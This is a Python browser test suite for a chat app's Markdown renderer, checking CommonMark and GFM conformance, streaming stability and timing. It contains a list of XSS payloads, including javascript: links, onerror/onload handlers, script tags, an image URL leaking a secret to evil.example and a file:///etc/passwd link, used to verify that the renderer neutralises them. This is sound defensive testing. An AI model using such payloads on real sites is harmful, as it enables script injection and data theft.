"""What models write: CommonMark by its own 652 examples, what GFM adds, text that grows or means no good."""

import json
import re
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page

from tests import node
from tests.browser.conftest import NewPage
from tests.server import ROOT, Server

EXAMPLE = re.compile(r"^`{32} example\n(.*?)^\.\n(.*?)^`{32}$", re.MULTILINE | re.DOTALL)
COMPARE = Path(__file__).with_name("markdown.js").read_text()
SECONDS = 5
# Where we differ: blocks of HTML are text here, and an address is a link also without brackets, as GFM has it.
IS_HTML = {21, 31, *range(148, 168), *range(169, 187), *range(188, 192), 308, 309}
IS_ADDRESS = {602, 608, 611, 612}
# Inputs of our own for each thing that GFM adds, and what cmark-gfm, GitHub's own program, makes of them; for two of
# XMPP what the text of GFM says, which that program does not do.
GFM = Path(__file__).with_name("gfm.json")

# What models write, and what is drawn of it on the page. Beyond both rules are: marks next to writing without spaces,
# and formulas, which keep their backslashes.
DRAWN = {
    "first\nsecond": "<p>first<br>second</p>",
    "snake_case_name, 2 * 3 * 4, $5 and $6": "<p>snake_case_name, 2 * 3 * 4, $5 and $6</p>",
    "**done.**\ue0001\ue001 ok": "<p><strong>done.</strong>\ue0001\ue001 ok</p>",  # the mark of a citation
    "**begun": "<p>**begun</p>",
    "```py\nif a:": '<pre tabindex="0" data-language="py"><code>if a:</code></pre>',
    "我**要做的事。**好": "<p>我<strong>要做的事。</strong>好</p>",
    "**おわり。**は": "<p><strong>おわり。</strong>は</p>",
    r"so \( a_1 * b_2 * c \) and \[ x = 1 \] but \(\)": r"<p>so \( a_1 * b_2 * c \) and \[ x = 1 \] but ()</p>",
    "- [x] done": '<ul><li><input type="checkbox" disabled="" checked="" aria-label="☑">done</li></ul>',
    "3. three\n4. four": '<ol start="3"><li>three</li><li>four</li></ol>',
    "|a|\n|-:|\n|x<br>y|": '<div class="table" tabindex="0" role="group"><table><thead><tr><th align="right">a</th>'
    '</tr></thead><tbody><tr><td align="right">x<br>y</td></tr></tbody></table></div>',
    "<b>no</b> <!-- x -->": "<p>&lt;b&gt;no&lt;/b&gt; &lt;!-- x --&gt;</p>",
    "<div onclick=x>\n*y*\n</div>": "<p>&lt;div onclick=x&gt;<br><em>y</em><br>&lt;/div&gt;</p>",
    "[constructor] [toString] &nope; &#0;": "<p>[constructor] [toString] &amp;nope; \ufffd</p>",
    "[a](/documents/1#b) [c](#d)": '<p><a href="/documents/1#b" target="_blank" rel="noopener noreferrer">a</a> '
    '<a href="#d" target="_blank" rel="noopener noreferrer">c</a></p>',
    '![a *b*](https://other.example/p.png "t")': '<p><a href="https://other.example/p.png" title="t" target="_blank" '
    'rel="noopener noreferrer">a b</a></p>',
}
# Texts that mean no good: none of them may give the page an address that runs, a handler, or something to fetch.
EVIL = [
    "[a](javascript:alert(1)) [b](JAVASCRIPT:alert(1)) [c](java&#x0A;script:alert(1)) [d](&#106;avascript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>) <javascript:alert(1)> [b](vbscript:x) [c](\x01javascript:alert(1))",
    "[a]: javascript:alert(1)\n\n[a] ![a] ![b](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![x](https://evil.example/p.png?q=secret) ![y](x"onerror="alert(1)) [z](/a "\\" onclick=\\"alert(1)")',
    "<img src=x onerror=alert(1)><svg onload=alert(1)><iframe src=//evil.example></iframe><style>*{}</style>",
    '```"><img/src=x/onerror=alert(1)>\nx\n```\n\n`<img src=x onerror=alert(1)>`\n\n# <script>alert(1)</script>',
    "[u](//evil.example) [v](file:///etc/passwd) [w](blob:x) https://example.org/<script>alert(1)</script>",
    '| <img src=x onerror=alert(1)> |\n|:-" onclick="x|\n| [x](javascript:1) |',
]
HARMLESS = r"""(text) => import("/static/chat/markdown/markdown.js").then(({ markdown }) => {
  const known = /^(A|BLOCKQUOTE|BR|CODE|DEL|DIV|EM|H\d|HR|INPUT|LI|OL|P|PRE|SPAN|STRONG|T(ABLE|BODY|D|H|HEAD|R)|UL)$/;
  const address = /^(https?:|mailto:|tel:|[/#](?!\/))/;
  const isWrong = ({ name, value }) => /^(on|src|style)/.test(name) || (name === "href" && !address.test(value));
  const nodes = [...markdown(text).querySelectorAll("*")];
  const wrong = nodes.filter((node) => !known.test(node.tagName) || [...node.attributes].some(isWrong));
  return wrong.map((node) => node.outerHTML);
})"""
# Pieces as a stream brings them, and what must not be seen at any moment before it is over.
GROWING: list[tuple[list[str], str, str]] = [
    (["buy bread\n", "-", " milk\n- eggs"], "h2", "p,ul"),
    (["Sum\n", "=", "= 7"], "h1", "p"),
    (["a\n\n", "--", "-\n\nb"], "h2", "p,hr,p"),
    (["| a | b |\n", "|--", "-|---|\n| 1 | ", "2 |\n"], "ul,h2", "div"),
    (["at [the ", "desk](https://exa", "mple.org/a_b) now"], 'a[href$="exa"]', "p"),
    (["```py", "thon\nprint(1)\n", "``", "`\nafter"], "p code,h2", "pre,p"),
    (["**bold", " and *it", "alic* here**"], "ul", "p"),
]
GROW = """(pieces) => import("/static/chat/markdown/markdown.js").then(({ decided, MarkdownView }) => {
  const view = new MarkdownView();
  const seen = pieces.map((_, index) => {
    view.set(decided(pieces.slice(0, index + 1).join("")));
    return view.node.innerHTML;
  });
  view.set(pieces.join(""));
  return [seen, [...view.node.children].map((block) => block.firstElementChild.tagName.toLowerCase()).join(",")];
})"""
# Openings that never close, ten thousand of them: what goes back to look for a partner each time takes minutes.
HOSTILE = [
    "**a",
    "*a ",
    "a_",
    "[",
    "[a](",
    "![",
    "<a ",
    "<!--",
    "`a``b",
    "> ",
    "- ",
    "~~",
    "|-",
    "a.a@",
    "http://a)",
    "#",
]


@pytest.fixture
def page(new_page: NewPage, server: Server) -> Page:
    page = new_page()
    page.goto(f"{server.url}/sign-in")
    return page


def compare(page: Page, *pairs: tuple[str, str | None]) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = page.evaluate(COMPARE, pairs)
    return found


def test_commonmark_by_its_own_examples(page: Page) -> None:
    spec = (node.modules(ROOT) / "commonmark-spec" / "spec.txt").read_text()
    examples = [(text.replace("→", "\t"), html.replace("→", "\t")) for text, html in EXAMPLE.findall(spec)]
    differing = {number for number, each in enumerate(compare(page, *examples), 1) if not each["same"]}
    assert len(examples) == 652
    assert differing == IS_HTML | IS_ADDRESS


def test_what_github_adds(page: Page) -> None:
    examples = [(each["markdown"], each["html"]) for each in json.loads(GFM.read_text())]
    assert [each["drawn"] for each in compare(page, *examples) if not each["same"]] == []


@pytest.mark.parametrize("text", DRAWN)
def test_what_models_write_is_drawn(page: Page, text: str) -> None:
    drawn = page.evaluate(
        """(text) => import("/static/chat/markdown/markdown.js").then(
            ({ markdown }) => markdown(text).querySelector(".block").innerHTML)""",
        text,
    )
    assert drawn == DRAWN[text]


@pytest.mark.parametrize("text", EVIL)
def test_no_text_becomes_more_than_text(page: Page, text: str) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    assert page.evaluate(HARMLESS, text) == []
    assert [url for url in asked if "/static/" not in url] == []


@pytest.mark.parametrize(("pieces", "never", "end"), GROWING)
def test_what_grows_does_not_turn_into_something_else(page: Page, pieces: list[str], never: str, end: str) -> None:
    seen, drawn = page.evaluate(GROW, pieces)
    assert drawn == end
    flashed = "([html, never]) => Boolean(new DOMParser().parseFromString(html, 'text/html').querySelector(never))"
    assert [html for html in seen if page.evaluate(flashed, [html, never])] == []


def test_what_was_read_is_not_drawn_again(page: Page) -> None:
    assert page.evaluate("""() => import("/static/chat/markdown/markdown.js").then(({ MarkdownView }) => {
      const view = new MarkdownView();
      view.set("# One\\n\\ntwo");
      const [heading, paragraph] = [...view.node.querySelectorAll("h1, p")];
      view.set("# One\\n\\ntwo and\\n\\n- three");
      return view.node.contains(heading) && !view.node.contains(paragraph) && view.node.children.length === 3;
    })""")


@pytest.mark.parametrize("piece", HOSTILE)
def test_no_text_makes_it_hang(page: Page, piece: str) -> None:
    (found,) = compare(page, (piece * 10_000, None))
    assert found["ms"] < SECONDS * 1000
